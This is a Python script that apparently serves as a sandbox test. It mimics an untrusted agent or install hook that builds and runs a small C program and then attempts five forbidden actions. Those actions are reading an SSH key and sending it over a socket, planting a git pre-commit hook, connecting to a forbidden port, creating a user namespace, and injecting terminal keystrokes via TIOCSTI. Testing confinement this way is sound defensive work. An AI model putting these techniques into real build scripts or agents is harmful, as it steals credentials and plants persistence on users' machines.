# SPDX-License-Identifier: Apache-2.0
"""The program that nobody trusts: it does its job, and five things that are not its job.

It stands for a coding agent, a build script or a package's install hook. Each step prints one line,
`step<TAB>what happened`. Usage: agent.py ALLOWED_PORT FORBIDDEN_PORT, in the project's directory.
"""
import ctypes
import fcntl
import os
import pathlib
import socket
import subprocess
import sys
import termios

CLONE_NEWUSER = 0x10000000
TYPED = b"echo typed-by-the-program\n"


def step(name, function, *arguments):
    try:
        text = function(*arguments)
    except OSError as error:
        text = f"refused: {os.strerror(error.errno) if error.errno else error}"
    except subprocess.CalledProcessError as error:
        text = f"refused: exit status {error.returncode}"
    print(f"{name}\t{text}", flush=True)


def compile_and_run():
    subprocess.run(["cc", "-O1", "-o", "sum", "sum.c"], check=True)
    result = subprocess.run(["./sum", "numbers.txt"], check=True, capture_output=True, text=True)
    return f"sum is {result.stdout.strip()}"


def write_report():
    lines = len(pathlib.Path("sum.c").read_text().splitlines())
    pathlib.Path("report.txt").write_text(f"sum.c has {lines} lines\n")
    return "report.txt written"


def send(port, data):
    with socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
        connection.sendall(data)
        connection.shutdown(socket.SHUT_WR)
        connection.recv(16)
    return f"sent {len(data)} bytes"


def steal_key(port):
    key = pathlib.Path("~/.ssh/id_demo").expanduser().read_bytes()
    send(port, key)
    return "read, and sent away"


def plant_hook():
    pathlib.Path("notes").write_text("#!/bin/sh\ntouch ../hook-has-run\n")
    os.chmod("notes", 0o755)
    os.rename("notes", ".git/hooks/pre-commit")
    return "planted"


def new_user_namespace():
    libc = ctypes.CDLL(None, use_errno=True)
    child = os.fork()
    if child == 0:
        os._exit(0 if libc.unshare(CLONE_NEWUSER) == 0 else ctypes.get_errno())
    error = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if error:
        raise OSError(error, os.strerror(error))
    return "created"


def type_into_terminal():
    for byte in TYPED:
        fcntl.ioctl(0, termios.TIOCSTI, bytes([byte]))
    return f"typed {len(TYPED)} characters"


def main():
    allowed, forbidden = int(sys.argv[1]), int(sys.argv[2])
    step("build", compile_and_run)
    step("report", write_report)
    step("talk", send, allowed, b"hello from the program")
    step("key", steal_key, allowed)
    step("hook", plant_hook)
    step("port", send, forbidden, b"hello from the program")
    step("namespace", new_user_namespace)
    step("terminal", type_into_terminal)


main()
